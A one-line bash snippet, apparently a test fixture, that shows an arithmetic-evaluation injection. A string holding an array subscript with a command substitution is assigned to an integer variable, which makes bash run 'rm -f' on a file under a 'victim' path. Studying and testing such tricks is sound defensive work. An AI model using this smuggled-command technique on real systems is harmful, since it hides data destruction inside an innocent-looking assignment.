declare -i n; x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-D11)]'; n=x
